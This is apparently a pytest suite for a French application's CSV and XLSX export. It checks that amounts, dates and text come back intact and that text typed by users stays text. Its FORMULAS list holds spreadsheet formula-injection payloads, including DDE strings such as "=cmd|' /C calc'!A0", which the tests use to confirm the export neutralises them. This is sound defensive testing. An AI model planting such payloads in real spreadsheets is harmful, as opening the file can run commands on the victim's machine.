"""Tables as CSV and XLSX, read back: text from people is text, amounts are numbers, dates are dates."""

import csv
import io
import tempfile
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tui_portail import spreadsheets
from tui_portail.errors import InvalidInput
from tui_portail.spreadsheets import Cell, CellKind, Column, Table, write_csv, write_xlsx

COLUMNS = (
    Column("Payeur", width=30),
    Column("Nombre", CellKind.COUNT),
    Column("Montant", CellKind.EUROS),
    Column("Jour", CellKind.DAY),
    Column("Instant", CellKind.INSTANT, 20),
)
AN_INSTANT = datetime(2026, 12, 31, 23, 30, 15, 250, tzinfo=UTC)
A_ROW: tuple[Cell, ...] = ("Éloïse « D’Ys »; fille", 1_234, -1_234_05, date(2026, 12, 1), AN_INSTANT)
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1;"ici")',
    "+33 6 00 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "=",
]
PLAIN = ["Marie Dupont", "#N/A", "TRUE", "0033", "1e5", "12/3", "a=b", "'déjà", '"guillemets"; et point-virgule']


def as_csv(*rows: tuple[Cell, ...], columns: tuple[Column, ...] = COLUMNS) -> list[list[str]]:
    content = io.BytesIO()
    assert write_csv(Table("Essai", columns, iter(rows)), content) == len(rows)
    text = content.getvalue().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def as_xlsx(*rows: tuple[Cell, ...], columns: tuple[Column, ...] = COLUMNS, title: str = "Essai") -> Any:
    content = io.BytesIO()
    assert write_xlsx(Table(title, columns, iter(rows)), content) == len(rows)
    return load_workbook(io.BytesIO(content.getvalue())).active


def test_a_french_excel_opens_the_csv_as_it_is() -> None:
    content = io.BytesIO()
    write_csv(Table("Essai", COLUMNS, [A_ROW]), content)
    head, row, end = content.getvalue().split(b"\r\n")
    assert head == "\ufeffPayeur;Nombre;Montant;Jour;Instant".encode()
    assert row == '"Éloïse « D’Ys »; fille";1234;-1234,05;01/12/2026;01/01/2027 00:30:15'.encode()
    assert end == b""


def test_a_workbook_holds_real_numbers_and_dates_under_a_frozen_title() -> None:
    sheet = as_xlsx(A_ROW, ("", 0, None, None, None))
    titles, row, empty = sheet.iter_rows()
    assert [cell.value for cell in titles] == ["Payeur", "Nombre", "Montant", "Jour", "Instant"]
    assert [cell.data_type for cell in row] == ["s", "n", "n", "d", "d"]
    assert Decimal(str(row[2].value)) == Decimal("-1234.05")
    assert row[3].value == datetime(2026, 12, 1)
    assert row[4].value == datetime(2027, 1, 1, 0, 30, 15), "Paris time"
    assert [cell.value for cell in empty] == [None, 0, None, None, None]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E3"
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["E"].width) == (30, 20)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_typed_by_somebody_stays_a_text(text: str) -> None:
    [_, [cell]] = as_csv((text,), columns=(Column(text),))
    assert cell == "'" + text
    [title], [cell] = as_xlsx((text,), columns=(Column(text),)).iter_rows()
    assert title.data_type == cell.data_type == "s"
    assert cell.value.replace("\n", "\r") == text.replace("\n", "\r")  # XML has one kind of line end
    assert cell.quotePrefix, "stays a text when somebody edits the cell"


def test_no_formula_element_stands_in_the_workbook() -> None:
    content = io.BytesIO()
    write_xlsx(Table("=1+1", (Column("=1"),), [(text,) for text in FORMULAS]), content)
    with zipfile.ZipFile(io.BytesIO(content.getvalue())) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert sheet.count('t="inlineStr"') == len(FORMULAS) + 1


@pytest.mark.parametrize("text", PLAIN)
def test_a_plain_text_is_left_as_it_is(text: str) -> None:
    [_, [cell]] = as_csv((text,), columns=(Column("Payeur"),))
    assert cell == text
    [_, [cell]] = as_xlsx((text,), columns=(Column("Payeur"),)).iter_rows()
    assert (cell.value, cell.quotePrefix) == (text, False)


def test_ten_thousand_characters_are_kept_and_control_characters_are_not() -> None:
    long, controlled = "é" * 10_000, "Du\0po\x1b[31mnt\ud800\x07\uffff"
    assert as_csv((long,), (controlled,), columns=(Column("Payeur"),))[1:] == [[long], ["Dupo[31mnt"]]
    _, [first], [second] = as_xlsx((long,), (controlled,), columns=(Column("Payeur"),)).iter_rows()
    assert (first.value, second.value) == (long, "Dupo[31mnt")


@given(st.text(alphabet=st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=60))
def test_any_text_is_read_back(text: str) -> None:
    kept = text.translate({0xFFFE: None, 0xFFFF: None})
    assume(kept)
    [_, cells] = as_csv((text, 1), columns=(Column("Payeur"), Column("N", CellKind.COUNT)))
    assert cells[0] in (kept, "'" + kept)
    [_, [cell]] = as_xlsx((text,), columns=(Column("Payeur"),)).iter_rows()
    assert cell.value == kept


@given(st.integers(min_value=-(10**11), max_value=10**11))
def test_an_amount_is_read_back_to_the_cent(cents: int) -> None:
    columns = (Column("Montant", CellKind.EUROS),)
    [_, [cell]] = as_csv((cents,), columns=columns)
    assert Decimal(cell.replace(",", ".")) * 100 == cents
    assert cell[-3] == ","
    [_, [cell]] = as_xlsx((cents,), columns=columns).iter_rows()
    assert round(Decimal(str(cell.value)) * 100) == cents


@pytest.mark.parametrize("title", ["Journal [2026]: a/b\\c*?", "x" * 80, "", "'", "\x00"])
def test_any_title_names_the_sheet(title: str) -> None:
    assert 1 <= len(as_xlsx(title=title).title) <= 31


def test_an_empty_table_has_its_titles() -> None:
    assert as_csv() == [["Payeur", "Nombre", "Montant", "Jour", "Instant"]]
    assert [cell.value for cell in as_xlsx()[1]] == ["Payeur", "Nombre", "Montant", "Jour", "Instant"]


def test_more_rows_than_a_sheet_holds_are_refused_with_a_way_out_and_nothing_is_left(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(spreadsheets, "MOST_XLSX_ROWS", 2)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    assert as_xlsx(*[A_ROW] * 2)
    with pytest.raises(InvalidInput, match="en CSV"):
        as_xlsx(*[A_ROW] * 3)
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_a_long_table_is_written_in_flat_memory(write: Callable[[Table, IO[bytes]], int], tmp_path: Path) -> None:
    def rows(count: int) -> Iterator[tuple[Cell, ...]]:
        yield from (A_ROW for _ in range(count))

    def peak(count: int) -> int:
        with (tmp_path / "table").open("wb") as file:
            tracemalloc.start()
            assert write(Table("Essai", COLUMNS, rows(count)), file) == count
            _, most = tracemalloc.get_traced_memory()
            tracemalloc.stop()
        return most

    peak(1)  # what is loaded once
    assert peak(4_000) < 2 * peak(500)
